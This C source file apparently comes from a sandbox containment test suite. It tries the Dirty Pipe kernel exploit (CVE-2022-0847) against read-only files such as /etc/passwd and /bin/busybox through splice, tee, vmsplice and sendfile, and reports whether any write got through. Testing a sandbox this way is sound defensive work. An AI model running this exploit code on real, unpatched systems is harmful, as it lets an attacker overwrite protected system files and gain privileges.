/* tries: Dirty Pipe: fill and drain a pipe, splice a page of an image file into it, then write; the
   same with tee, vmsplice with SPLICE_F_GIFT and sendfile, over several files and offsets */
/* must fail because: pipes are the sentry's own; a spliced page is copied, and no buffer of a pipe
   is ever the page cache of a file */
/* an escape would: find the image file changed although it is read-only */
/* source: ATTACKS.md V21; CVE-2022-0847 */
#include <sys/sendfile.h>
#include <sys/uio.h>

#include "tricks.h"

static int fill_and_drain(int p[2])
{
    char buf[4096] = "";
    if (pipe(p) < 0)
        return -errno;
    int size = fcntl(p[1], F_GETPIPE_SZ), done = 0;
    for (int left = size; left > 0; left -= 4096, done++)
        if (write(p[1], buf, sizeof(buf)) != sizeof(buf))
            break;
    for (int i = 0; i < done; i++)
        if (read(p[0], buf, sizeof(buf)) <= 0)
            break;
    return done;
}

static int changed(const char *file, const char *before, ssize_t n)
{
    char after[4096];
    int fd = open(file, O_RDONLY);
    ssize_t m = pread(fd, after, sizeof(after), 0);
    close(fd);
    return m != n || memcmp(before, after, (size_t)n) != 0;
}

static int one(const char *file, int way, loff_t off)
{
    char before[4096], mine[64] = "dirty-pipe-dirty-pipe-dirty-pipe";
    int p[2], q[2], fd = open(file, O_RDONLY);
    ssize_t n = pread(fd, before, sizeof(before), 0);
    if (n <= off + 8 || fill_and_drain(p) <= 0 || pipe(q) < 0) {
        close(fd);
        return -1;
    }
    struct iovec iov = {mine, 32};
    splice(fd, &off, p[1], NULL, 1, 0);
    if (way == 1) {
        tee(p[0], q[1], 1, 0);
        write(q[1], mine, 32);
    } else if (way == 2) {
        vmsplice(p[1], &iov, 1, SPLICE_F_GIFT);
    } else if (way == 3) {
        off_t o = off;
        sendfile(p[1], fd, &o, 1);
    }
    write(p[1], mine, 32);
    loff_t zero = 0;
    splice(p[0], NULL, fd, &zero, 32, 0);
    close(fd);
    close(p[0]), close(p[1]), close(q[0]), close(q[1]);
    return changed(file, before, n);
}

static int attack(void)
{
    static const char *const files[] = {"/etc/passwd", "/etc/group", "/bin/busybox",
                                        "/proc/self/exe", "/etc/hostname"};
    int tries = 0, won = 0;
    for (int i = 0; i < COUNT(files); i++) {
        for (int way = 0; way < 4; way++) {
            for (loff_t off = 0; off < 16; off += 5) {
                int r = one(files[i], way, off);
                tries += r >= 0;
                if (r == 1 && won++ < 3)
                    step("%s changed, way %d, offset %lld", files[i], way, (long long)off);
            }
        }
    }
    if (won)
        return escaped("%d writes through a pipe reached the image", won);
    if (!tries)
        return cannot("no file could be spliced");
    return contained("%d tries, every file reads as before", tries);
}

static int twin(void)
{
    char a[17] = "", b[17] = "";
    int p[2], fd = open("/etc/passwd", O_RDONLY);
    loff_t off = 0;
    if (pipe(p) < 0 || pread(fd, a, 16, 0) != 16)
        return broken("a pipe and /etc/passwd: %s", err_name(errno));
    if (splice(fd, &off, p[1], NULL, 16, 0) != 16 || read(p[0], b, 16) != 16 ||
        memcmp(a, b, 16) != 0)
        return broken("splice of 16 bytes: %s", err_name(errno));
    return works("splice carries a file's bytes into a pipe");
}

int main(int argc, char **argv)
{
    return attack_main(argc, argv, attack, twin);
}
